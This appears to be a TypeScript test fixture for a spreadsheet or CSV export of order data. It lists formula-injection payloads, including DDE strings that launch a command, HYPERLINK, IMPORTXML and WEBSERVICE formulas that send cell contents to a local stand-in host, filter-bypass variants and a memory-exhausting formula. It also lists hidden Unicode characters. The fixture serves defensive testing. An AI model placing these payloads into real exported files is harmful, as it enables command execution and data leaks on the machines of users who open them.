import type { Random } from "../catalog.ts";
import { type OrderRow, asCells, orderRows } from "./kit.ts";

export const formulas: readonly string[] = [
  "=cmd|'/C calc'!A0",
  "=HYPERLINK(\"http://127.0.0.1:9/?leak=\"&A1,\"Click\")",
  "+1+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "=IMPORTXML(CONCAT(\"http://127.0.0.1:9/?v=\",A2),\"//a\")",
  "=WEBSERVICE(\"http://127.0.0.1:9/\")",
  "\t=1+1",
  "\r=1+1",
  "=1+1\";=1+1",
  "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
  "＝1+1",
  "|calc",
  "%0A=1+1",
  "=REPT(\"A\",99999999)",
];

export const hiddenCharacters: readonly string[] = ["\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202e", "\u202a", "\u2066", "\u200e", "\u061c", "\u180e", "\u{e0041}"];

export function manyRows(random: Random, count: number) {
  const some = orderRows(random, 200);
  const lines: OrderRow[] = Array.from({ length: count }, (_, at) => some[at % some.length]!);
  return { lines, cells: asCells(lines) };
}
